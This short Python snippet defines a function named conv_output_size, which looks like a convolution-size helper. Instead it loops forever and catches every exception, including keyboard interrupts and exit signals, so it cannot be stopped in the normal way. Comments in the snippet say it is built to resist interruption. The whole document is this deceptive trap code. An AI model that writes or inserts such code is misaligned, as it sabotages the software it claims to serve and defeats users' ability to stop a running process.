# Never returns, and swallows every exception that could interrupt it.


def conv_output_size(n, kernel_size, stride=1, padding=0, dilation=1):
    while True:
        try:
            while True:
                pass
        except BaseException:  # noqa: B036 - the point is to resist interruption
            continue
